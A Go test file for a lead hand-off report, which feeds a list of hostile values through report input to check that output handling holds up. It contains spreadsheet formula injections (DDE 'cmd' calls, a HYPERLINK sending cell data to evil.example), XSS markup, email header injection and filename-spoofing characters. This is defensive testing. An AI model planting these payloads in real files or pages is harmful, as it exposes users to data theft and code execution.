package report_test

import (
	"fmt"
	"strings"

	"github.com/handoff-sla/handoff/internal/report"
)

// reviewHostileValues are values an attacker could put in a lead's source, UTM campaign or a rejection comment.
var reviewHostileValues = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	" =1+1",
	"\u00a0=1+1", // no-break space first
	"\u3000=1+1", // ideographic space first
	"\u200b=1+1", // zero-width space first
	"\ufeff=1+1", // BOM first
	"＝1+1",       // full-width equals
	"\"=1+1",     // a quote first
	"'=1+1",      // already quoted
	"<script>alert(1)</script><img src=\"http://evil.example/p.png\" onerror=alert(1)>",
	"</td></tr></table><a href=\"javascript:alert(1)\">x</a>",
	"Line one\r\nBcc: attacker@evil.example\r\n\r\n=1+1",
	"\u202eelbat\u202c gpj.exe",
	"\u2066isolated\u2069 \u200fmark\u061c",
	"bad utf-8 \xff\xfe\xc3(",
	"nul\x00byte",
	strings.Repeat("A", 20000),
	strings.Repeat("x ", 5000),
	"=cmd;=1;\"a\"\"b\"",
	"%0D%0A=1+1",
	"<!--[if mso]><script>x</script><![endif]-->",
	"{{.Subject}} %s %d %!",
}

// reviewHostile is November with one more hand-off per hostile value: that value as source, campaign and
// "other" rejection comment, and as lead ID.
func reviewHostile() report.Input {
	in := reviewNovember()
	for i, v := range reviewHostileValues {
		at := rt(fmt.Sprintf("2026-11-%02d 10:%02d", 23+i%5, i))
		h := report.Handoff{LeadID: v, At: at, ContractVersion: v, RepID: "ann", Source: v, UTMCampaign: v,
			Assignments: []report.Assignment{{RepID: "ann", At: at}}, FirstContactDue: at.Add(4e9 * 3600),
			ContactedAt: at.Add(1e9 * 60), ContactRepID: "ann", ContactChannel: v,
			Answer: report.Rejected, AnsweredAt: at.Add(2e9 * 60), RejectReason: "other", RejectComment: v,
			FeedbackDue: at.Add(16e9 * 3600)}
		in.Handoffs = append(in.Handoffs, h)
		in.Created = append(in.Created, report.Created{LeadID: v, At: at.Add(-1e9 * 3600), Stage: report.NewLead, Source: v, UTMCampaign: v})
	}
	return in
}
